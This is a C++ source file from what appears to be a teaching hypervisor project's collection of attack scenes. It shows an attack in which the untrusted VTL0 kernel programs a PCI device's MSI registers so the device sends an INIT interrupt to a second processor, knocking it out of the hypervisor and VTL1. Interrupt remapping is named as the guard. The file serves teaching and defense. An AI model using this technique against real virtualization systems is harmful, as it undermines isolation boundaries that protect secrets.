// SPDX-License-Identifier: MIT
// Row 19: VTL0's kernel has a device send INIT to a processor.
//
// An interrupt of a device is a store: where to and which is what the driver wrote into the
// device's configuration. INIT is one of them, and a processor that gets it forgets all: it is out
// of the hypervisor, and out of VTL1.  [PCI 6.8] [VTD 5.1]  Guard: interrupt-remapping. Lesson: 10.
#include "kernel/console.h"
#include "kernel/drivers/pci.h"
#include "kernel/scenes/attacks/attack.h"
#include "kernel/scenes/attacks/courier.h"
#include "kernel/scheduler/processor_call.h"
#include "rt/check.h"
#include "rt/instructions.h"
#include "x86/pci_msi.h"

#include <atomic>

namespace nt::attacks {
namespace {

constinit std::atomic<std::uint64_t> count{0};
constinit std::atomic<bool> is_enough{false};

/// On the second processor: whoever sees the count grow knows that it runs.
void count_on() {
    while (!is_enough.load()) {
        count.fetch_add(1);
    }
}

/// Long enough for a processor to count, if it runs.
std::uint64_t counted_meanwhile() {
    constexpr unsigned patience = 200'000;
    const std::uint64_t before = count.load();
    for (unsigned turn = 0; turn < patience && count.load() - before < 1000; ++turn) {
        rt::pause();
    }
    return count.load() - before;
}

/// The device's next interrupt is INIT, for the processor with this APIC.
void set_message(x86::PciRequester device, std::uint8_t apic) {
    constexpr std::uint8_t capability = 0x40; // where the teaching device has it
    const auto init =
        x86::MsiData{}.with(x86::MsiData::delivery, x86::InterruptCommand::Delivery::Init);
    pci::write(device, capability + x86::PciMsi::address_place, x86::MsiAddress::to(apic).raw);
    pci::write(device, capability + x86::PciMsi::upper_address_place, 0);
    pci::write(device, capability + x86::PciMsi::data_place, init.raw);
    pci::write(device, capability,
               x86::PciMsiControl::from(pci::read(device, capability))
                   .with(x86::PciMsiControl::enabled, true)
                   .raw);
}

} // namespace

void send_init(Stage& stage) {
    if (processor_count() < 2) {
        console::write("kernel: this attack needs a second processor\n");
        return;
    }
    const auto device = pci::find_device(x86::edu::identity);
    CHECK(device.has_value(), "This machine has no teaching device.");
    const Edu sender = courier();
    constexpr unsigned second = 1;
    processor_call::begin(processor_at(second), count_on);
    while (counted_meanwhile() == 0) {
    }

    page_with_secret(stage); // VTL1 has something to lose: the IOMMU is on by now.
    begin(device->raw);
    set_message(*device, second);
    sender.interrupt();
    loot()[0] = counted_meanwhile() == 0 ? abi::attackers_word : 0;
    console::print("kernel: the second processor {}\n",
                   loot()[0] == 0 ? "runs on" : "does not run any more");
    is_enough.store(true); // If it ever gets to see that.
}

} // namespace nt::attacks
